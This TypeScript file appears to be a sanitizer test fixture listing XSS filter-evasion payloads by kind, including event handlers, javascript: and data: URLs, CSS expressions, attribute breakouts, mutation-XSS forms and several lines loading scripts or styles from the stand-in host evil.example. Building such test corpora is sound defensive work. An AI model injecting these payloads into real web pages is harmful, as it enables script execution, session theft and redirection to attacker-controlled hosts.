import { HOSTILE_TEXTS } from './hostile-texts.ts';

const NUL = '\u0000';
const CODE = 'alert(1)';
const charCodes = (text: string, write: (code: number) => string) =>
  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');

/**
 * Ways past filters, by kind: what OWASP's cheat sheet on filter evasion lists kinds of, and forms that a parser mends into
 * something else (mXSS). Written here, with one host that must never be asked.
 */
export const EVASION_CASES: Readonly<Record<string, readonly string[]>> = {
  'script elements': [
    `<sCrIpT>${CODE}</ScRiPt>`,
    `<script\n>${CODE}</script\t>`,
    `<script/x>${CODE}</script>`,
    `<scr<script>ipt>${CODE}</scr</script>ipt>`,
    '<script src=//evil.example/a.js>',
    '<script src="//evil.example/a.js"',
    '<script src="https:\\\\evil.example\\a.js"></script>',
    `<script type=module>import("https://evil.example/m.js")</script>`,
    `<svg><script>&#97;lert(1)</script></svg>`,
    `<svg><script href="https://evil.example/s.js"/></svg>`,
  ],
  'event handlers': [
    `<img src=x onerror=${CODE}>`,
    `<img src=x onerror\n=\n"${CODE}">`,
    `<img/src=x/onerror=${CODE}>`,
    `<video><source onerror="${CODE}"></video>`,
    `<audio src=x onerror=${CODE}>`,
    `<details open ontoggle=${CODE}>x</details>`,
    `<input autofocus onfocus=${CODE}>`,
    `<select autofocus onfocus=${CODE}>`,
    `<marquee onstart=${CODE}>x</marquee>`,
    `<body onpageshow=${CODE}>`,
    `<p style="animation:x" onanimationstart=${CODE}>x</p>`,
    `<div onpointerover=${CODE} style=position:fixed;inset:0>x</div>`,
    `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
  ],
  'script addresses': [
    `<a href="javascript:${CODE}">x</a>`,
    `<a href=" &#14; javascript:${CODE}">x</a>`,
    `<a href="java\tscript:${CODE}">x</a>`,
    `<a href="java\nscript:${CODE}">x</a>`,
    `<a href="java&NewLine;script&colon;${CODE}">x</a>`,
    `<a href="${charCodes('javascript:', (code) => `&#${code};`)}${CODE}">x</a>`,
    `<a href="${charCodes('javascript:', (code) => `&#x${code.toString(16)};`)}${CODE}">x</a>`,
    `<a href="${charCodes('javascript:', (code) => `&#${String(code).padStart(7, '0')}`)}${CODE}">x</a>`,
    `<a href="vbscript:MsgBox(1)">x</a>`,
    `<form action="javascript:${CODE}"><input type=submit></form>`,
    `<button formaction=javascript:${CODE}>x</button>`,
    `<object data="javascript:${CODE}">`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${CODE}">x</maction></math>`,
    `javascript:/*--></title></style></textarea></script><svg/onload='${CODE}'>`,
  ],
  'data addresses': [
    `<iframe src="data:text/html,<script>${CODE}</script>"></iframe>`,
    `<object data="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></object>`,
    `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
    `data:text/html,<script>${CODE}</script>`,
  ],
  'other elements that load or lead away': [
    `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
    '<iframe src=//evil.example>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<base href="https://evil.example/">',
    '<img src=//evil.example/pixel.gif>',
    '<svg><image href="https://evil.example/p.png"/></svg>',
    '<svg><use href="https://evil.example/u.svg#x"/></svg>',
    `<svg><animate onbegin=${CODE} attributeName=x dur=1s></svg>`,
    `<svg><a><set attributeName=href to=javascript:${CODE} /><text y=20>x</text></a></svg>`,
    '<video poster=//evil.example/p.png>',
    '<form action=//evil.example><input name=q autofocus>',
  ],
  styles: [
    `<style>@import "//evil.example/x.css";</style>`,
    '<div style="background:url(//evil.example/b.png)">x</div>',
    `<div style="width:expression(${CODE})">x</div>`,
    `<div style="xss:expr/**/ession(${CODE})">x</div>`,
    `<style>*{-moz-binding:url("//evil.example/x.xml#x")}</style>`,
    `<link rel="stylesheet" href="javascript:${CODE}">`,
  ],
  'ways out of an attribute or a text': [
    `" onmouseover="${CODE}" x="`,
    `' onmouseover='${CODE}' x='`,
    `\` onmouseover=${CODE} x=\``,
    `" autofocus onfocus=${CODE} x="`,
    `x"><svg/onload=${CODE}>`,
    `--><img src=x onerror=${CODE}>`,
    `--!><img src=x onerror=${CODE}>`,
    `</textarea><svg/onload=${CODE}>`,
    `</style><svg/onload=${CODE}>`,
    `</a></p></main><svg/onload=${CODE}>`,
    `*/${CODE};/*`,
    `\\";${CODE};//`,
    `</script><!--<script>`,
  ],
  'what a parser mends': [
    `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CODE}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${CODE}>">`,
    `<template><img src=x onerror=${CODE}></template>`,
    `<table><td><form><input name=q></table><img src=x onerror=${CODE}>`,
    `<img src="x\`\`onerror=${CODE}">`,
    `<listing>&lt;img src=x onerror=${CODE}&gt;</listing>`,
    `<xmp><p title="</xmp><img src=x onerror=${CODE}>">`,
    `<a/b/c onclick=${CODE}//>x`,
    `<${NUL}script>${CODE}</script>`,
    `<scr${NUL}ipt>${CODE}</scr${NUL}ipt>`,
    `<img src=x one${NUL}rror=${CODE}>`,
    `<\u017Fcript>${CODE}</\u017Fcript>`,
    `\uFF1Cscript\uFF1E${CODE}\uFF1C/script\uFF1E`,
    `\\u003cscript\\u003e${CODE}\\u003c/script\\u003e`,
    `%3Cscript%3E${CODE}%3C%2Fscript%3E`,
    `&amp;lt;script&amp;gt;${CODE}&amp;lt;/script&amp;gt;`,
    `&lt;img src=x onerror=${CODE}&gt;`,
    `<plaintext>`,
    `<!-- <img src=x onerror=${CODE}>`,
    `<![if gte IE 4]><script>${CODE}</script><![endif]>`,
    `<?php echo "<script>${CODE}</script>"; ?>`,
  ],
};

/** All of them in a row, with those that feeds are held to. */
export const EVASION_TEXTS: readonly string[] = [
  ...new Set([...Object.values(EVASION_CASES).flat(), ...HOSTILE_TEXTS]),
];
